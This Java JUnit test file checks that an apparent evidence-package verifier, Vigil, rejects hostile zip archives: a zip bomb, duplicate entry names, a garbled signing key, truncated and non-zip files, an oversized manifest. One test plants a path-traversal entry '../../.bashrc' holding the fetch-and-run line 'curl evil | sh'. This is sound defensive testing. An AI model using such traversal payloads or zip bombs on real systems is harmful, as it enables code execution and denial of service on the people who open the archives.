package vigil.app.evidence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import vigil.app.CapturedOutput;
import vigil.protocol.link.NodeAddress;
import vigil.protocol.testing.TestJpegs;
import vigil.protocol.wire.Area;
import vigil.protocol.wire.EventType;
import vigil.protocol.wire.FirstDetection;
import vigil.protocol.wire.NodeTimestamp;
import vigil.protocol.wire.ObjectClass;
import vigil.storage.IncidentQuery;
import vigil.storage.Storage;

/** vigil verify against packages made to hurt it: each is named in words, nothing is inflated whole, nothing crashes. */
class HostilePackageTest {
    @TempDir
    Path work;

    @RegisterExtension
    final CapturedOutput captured = new CapturedOutput();

    private Path data;
    private Path good;

    @BeforeEach
    void aGoodPackage() throws Exception {
        data = work.resolve("data");
        good = work.resolve("good.zip");
        try (Storage storage = Storage.open(data)) {
            storage.incidents().record(new NodeAddress("node", 5100), new FirstDetection(EventType.HAZARD, 3, ObjectClass.FOD, 100, 100,
                    Area.TWY_A, NodeTimestamp.of(Instant.now()), null, TestJpegs.jpeg(900, 3)), Instant.now()).get();
            EvidencePackage.export(storage, IncidentQuery.ALL, good, "sue", SigningKey.of(data), done -> { });
        }
    }

    private String verify(Path zip) {
        int exit = captured.vigil("verify", zip.toString(), "--data", data.toString());
        assertEquals(1, exit, captured.stdout());
        return captured.stdout();
    }

    @Test
    void aFileInflatingLikeABombIsNamedNotInflated() throws Exception {
        Path bomb = copy("bomb.zip", (name, bytes, out) -> out.write(name.startsWith("images/") ? new byte[64 << 20] : bytes));
        long started = System.nanoTime();
        String said = verify(bomb);
        assertTrue(said.contains(" inflates to more than 200 times its packed size: not a file Vigil wrote (a zip bomb?); not read further"), said);
        assertTrue(System.nanoTime() - started < 5_000_000_000L, "stopped early, not hashed whole");
    }

    @Test
    void aNameTwiceAndANameClimbingOutAreNamed() throws Exception {
        Path twice = work.resolve("twice.zip");
        // ZipOutputStream refuses a name twice, so the second one is renamed in the bytes, header and directory alike.
        Path withCopy = copy("with-copy.zip", (name, bytes, out) -> {
            out.write(bytes);
            if (name.equals("incidents.csv")) {
                out.closeEntry();
                out.putNextEntry(new ZipEntry("incidents.csX"));
                out.write("nothing happened\n".getBytes(StandardCharsets.UTF_8));
            }
        });
        byte[] raw = Files.readAllBytes(withCopy);
        String text = new String(raw, StandardCharsets.ISO_8859_1).replace("incidents.csX", "incidents.csv");
        Files.write(twice, text.getBytes(StandardCharsets.ISO_8859_1));
        String said = verify(twice);
        assertTrue(said.contains("FAILED: incidents.csv is in the package more than once: a reader could be shown a copy other than the one checked"), said);

        Path climbing = copy("climbing.zip", (name, bytes, out) -> {
            out.write(bytes);
            if (name.equals("report.html")) {
                out.closeEntry();
                out.putNextEntry(new ZipEntry("../../.bashrc"));
                out.write("curl evil | sh\n".getBytes(StandardCharsets.UTF_8));
            }
        });
        said = verify(climbing);
        assertTrue(said.contains("FAILED: the entry name '../../.bashrc' reaches outside the package: not a name Vigil writes"), said);
        assertTrue(said.contains("FAILED: ../../.bashrc is not in the manifest"), said);
    }

    /** Found by the structure-aware fuzz target: a key that is no key made the whole package "not a zip". */
    @Test
    void aSignerKeyThatIsNoKeyIsNamedAndTheRestStillChecked() throws Exception {
        Path garbled = copy("garbled-key.zip", (name, bytes, out) -> out.write(name.equals(EvidencePackage.SIGNER)
                ? "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n".getBytes(StandardCharsets.US_ASCII) : bytes));
        String said = verify(garbled);
        assertTrue(said.contains("FAILED: signer.pub.pem is not an Ed25519 public key: "), said);
        assertTrue(EvidencePackage.verify(garbled).checked().containsKey("incidents.csv"), "the files are still checked");
    }

    @Test
    void aFileThatIsNoZipAndAHugeManifestAreRefusedInWords() throws Exception {
        Path text = Files.writeString(work.resolve("notes.zip"), "not a zip at all");
        String said = verify(text);
        assertTrue(said.startsWith("FAILED: " + text + " is not a zip that can be read: "), said);

        Path truncated = work.resolve("truncated.zip");
        byte[] bytes = Files.readAllBytes(good);
        Files.write(truncated, Arrays.copyOf(bytes, bytes.length / 2));
        said = verify(truncated);
        assertTrue(said.startsWith("FAILED: " + truncated + " is not a zip that can be read: "), said);

        Path huge = copy("huge.zip", (name, content, out) -> out.write(name.equals(EvidencePackage.MANIFEST)
                ? new byte[EvidencePackage.MAX_MANIFEST_BYTES + 10] : content));
        said = verify(huge);
        assertTrue(said.contains("FAILED: manifest.json is larger than 64 MiB: not a manifest Vigil wrote"), said);
    }

    private interface Entry {
        void write(String name, byte[] bytes, ZipOutputStream out) throws Exception;
    }

    /** Copies the good package entry by entry through {@code entry}. */
    private Path copy(String name, Entry entry) throws Exception {
        Path to = work.resolve(name);
        try (ZipFile in = new ZipFile(good.toFile()); ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(to))) {
            for (ZipEntry each : in.stream().toList()) {
                out.putNextEntry(new ZipEntry(each.getName()));
                entry.write(each.getName(), in.getInputStream(each).readAllBytes(), out);
                out.closeEntry();
            }
        }
        return to;
    }
}
